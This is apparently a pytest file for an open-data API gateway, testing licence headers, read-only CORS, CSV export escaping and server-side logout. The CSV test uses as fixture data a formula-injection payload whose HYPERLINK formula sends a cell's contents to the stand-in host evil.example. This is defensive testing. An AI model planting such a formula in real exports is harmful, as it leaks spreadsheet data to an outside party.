"""Open data done properly, and the staff session: the licence on every public answer and in the
OpenAPI document, CORS for reading (never for credentials or writes), CSV exports that no
spreadsheet runs as formulas, and a logout that ends the session on the server."""

from __future__ import annotations

import csv
import io
import json
import urllib.request
from pathlib import Path

from store_helpers import at, get, get_json, login, start, store_config

from edge.protocol import Envelope, Topic
from gateway.store.intake import Batch, classify

CC_BY = "https://creativecommons.org/licenses/by/4.0/"


def write(run, kind: str, channel: str, env: Envelope) -> None:
    batch = Batch(received_ms=0)
    batch.add(classify(str(Topic(kind, env.device, channel)), env.to_json(), 10**6))
    run.store.write(batch)


def request(url: str, method: str = "GET", **headers: str) -> tuple[int, dict[str, str]]:
    req = urllib.request.Request(url, method=method, headers=headers)
    try:
        with urllib.request.urlopen(req, timeout=10) as answer:
            return answer.status, {k.lower(): v for k, v in answer.headers.items()}
    except urllib.error.HTTPError as exc:
        return exc.code, {k.lower(): v for k, v in exc.headers.items()}


def test_the_licence_is_stated_everywhere_the_data_goes(api):
    info = get_json(api.url + "openapi.json")["info"]
    assert info["license"]["url"] == CC_BY and "CC-BY-4.0" in info["license"]["name"]
    for path in ("api/v1/sites", "api/v1/export.csv", "ngsi/v2/entities", "openapi.json"):
        status, headers, _ = get(api.url + path)
        assert (
            status == 200
            and f"<{CC_BY}>" in headers["link"]
            and 'rel="license"' in (headers["link"])
        ), path
    for path in ("api/v1/sites.geojson", "api/v1/export.geojson"):
        body = get_json(api.url + path)
        assert body["license"] == {"name": "CC-BY-4.0", "url": CC_BY} and body["attribution"]
    page = get(api.url)[2].decode()
    assert f'rel="license" href="{CC_BY}"' in page


def test_any_site_may_read_the_public_api_but_nothing_more(api):
    origin = {"Origin": "https://dashboard.example.org"}
    status, headers = request(api.url + "api/v1/sites", **origin)
    assert status == 200 and headers["access-control-allow-origin"] == "*"
    assert "Fiware-Total-Count" in headers["access-control-expose-headers"]
    assert "access-control-allow-credentials" not in headers
    status, headers = request(
        api.url + "ngsi/v2/entities",
        "OPTIONS",
        **origin,
        **{
            "Access-Control-Request-Method": "GET",
            "Access-Control-Request-Headers": "fiware-service",
        },
    )
    assert status == 204 and "Fiware-Service" in headers["access-control-allow-headers"]
    assert "Authorization" not in headers["access-control-allow-headers"]
    # no cross-site writes: a page elsewhere cannot create subscriptions
    status, _ = request(
        api.url + "ngsi/v2/subscriptions",
        "OPTIONS",
        **origin,
        **{"Access-Control-Request-Method": "POST"},
    )
    assert status == 403
    # the pages and the staff side are not shared with other sites
    for path in ("", "staff/login"):
        assert "access-control-allow-origin" not in request(api.url + path, **origin)[1]


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path: Path):
    run = start(store_config(tmp_path, f"sqlite:///{tmp_path / 'store.db'}"))
    try:
        data = {
            "label": '=HYPERLINK("http://evil.example/?"&A1,"click")',
            "note": "+81 238 00 0000",
            "who": "@admin",
            "tab": "\t=1+1",
            "temperature_c": -3.5,
            "plain": "bear",
        }
        write(run, "river", "event", Envelope("river-01", 0, at(5), "note", data))
        fields = "label,note,who,tab,temperature_c,plain"
        body = get(run.url + f"api/v1/export.csv?fields={fields}&kind=river")[2].decode("utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(body)))
        assert len(rows) == 1
        row = rows[0]
        assert row["label"] == "'" + data["label"]
        assert row["note"] == "'+81 238 00 0000" and row["who"] == "'@admin"
        assert row["tab"] == "'\t=1+1"
        assert row["temperature_c"] == "-3.5"  # a number stays a number
        assert row["plain"] == "bear"
        assert json.loads(row["data"]) == data  # the JSON column starts with { and is kept whole
        texts = [cell for name, cell in row.items() if name != "temperature_c"]
        assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for cell in texts if cell)
    finally:
        run.stop()


def test_logout_ends_the_session_on_the_server(tmp_path: Path, db_url: str):
    secret = tmp_path / "session-secret"
    secret.write_bytes(b"x" * 48)
    config = store_config(tmp_path, db_url)
    config.staff.session_secret_file = secret
    run = start(config)
    try:
        stolen = login(run.url)  # a copy of the cookie, as a shared PC or a proxy log keeps it
        other = login(run.url)  # the same person on another device
        assert stolen and other and stolen != other
        assert get(run.url + "staff", stolen)[0] == 200
        assert get(run.url + "api/v1/rejections", stolen)[0] == 200
        req = urllib.request.Request(
            run.url + "staff/logout", method="POST", headers={"Cookie": stolen}
        )
        with urllib.request.urlopen(req, timeout=10) as answer:
            assert answer.url.endswith("/")
        assert get(run.url + "staff", stolen)[0] == 303  # refused: back to the login
        assert get(run.url + "api/v1/rejections", stolen)[0] == 401
        assert get(run.url + "staff", other)[0] == 200  # only that session ended
    finally:
        run.stop()
    again = start(config)  # the same secret: a restart must not bring the session back
    try:
        assert get(again.url + "staff", stolen)[0] == 303
        assert get(again.url + "staff", other)[0] == 200
    finally:
        again.stop()
